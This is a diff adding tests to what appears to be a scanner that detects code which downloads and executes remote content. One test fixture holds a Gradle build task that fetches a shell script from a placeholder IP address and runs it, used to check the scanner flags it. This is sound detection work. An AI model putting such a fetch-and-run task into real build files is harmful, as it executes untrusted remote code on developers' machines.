@@ -562,3 +562,29 @@ def test_a_struct_field_named_data_below_a_get_is_not_a_request_body(tmp_path: P
         "}\n"
     )
     assert Kind.EGRESS not in kinds(tmp_path, "scripts/pods/main.go", source)
+
+
+def test_groovy_gradle_download_streamed_into_a_file_then_executed_is_download_and_run(tmp_path: Path) -> None:
+    source = (
+        "task warmCache {\n"
+        "    doLast {\n"
+        '        def script = new File(buildDir, "warm.sh")\n'
+        '        new URL("http://198.51.100.77/warm.sh").withInputStream { input ->\n'
+        "            script.withOutputStream { it << input }\n"
+        "        }\n"
+        '        ["sh", script.path].execute().waitFor()\n'
+        "    }\n"
+        "}\n"
+    )
+    assert Kind.EXEC_FETCHED in kinds(tmp_path, "build.gradle", source)
+
+
+def test_groovy_download_unpacked_with_execute_runs_nothing(tmp_path: Path) -> None:
+    source = (
+        'def zip = new File(buildDir, "fonts.zip")\n'
+        'new URL("https://fonts.example.invalid/pack.zip").withInputStream { input ->\n'
+        "    zip.withOutputStream { it << input }\n"
+        "}\n"
+        '["unzip", "-o", zip.path].execute().waitFor()\n'
+    )
+    assert Kind.EXEC_FETCHED not in kinds(tmp_path, "build.gradle", source)
